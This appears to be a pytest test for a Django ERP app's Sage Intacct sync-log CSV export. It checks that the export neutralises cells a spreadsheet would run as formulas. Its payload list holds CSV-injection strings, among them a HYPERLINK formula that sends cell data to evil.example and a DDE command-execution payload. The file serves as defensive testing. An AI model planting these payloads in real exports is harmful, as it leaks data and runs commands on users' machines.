"""Issue 12, item 5: the sync-log CSV neutralises cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io

import pytest

from trueerp.sage_intacct.sync.models import SyncAttempt
from trueerp.tests.url_access import WORLD_BUILDERS

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1,2)",
    "\t=1",
    "\r=1",
]


def test_sync_log_csv_neutralises_formula_cells(company, other_company, clerk_user, admin_user, client_for):
    world: dict[str, object] = {}
    for builder in WORLD_BUILDERS:
        world.update(builder(company, other_company, {"clerk": clerk_user}))
    attempt = SyncAttempt.objects.get(company=company)
    for payload in PAYLOADS:
        SyncAttempt.objects.create(
            company=company,
            job=attempt.job,
            transaction=attempt.transaction,
            outcome="failed",
            message=payload,
        )
    response = client_for(admin_user).get("/settings/sage-intacct/sync-log.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][7] == "message"
    messages = sorted(row[7] for row in rows[1:])
    assert messages == sorted(["NWMARK attempt failed", *("'" + payload for payload in PAYLOADS)])
    assert {row[1] for row in rows[1:]} == {attempt.transaction.number}
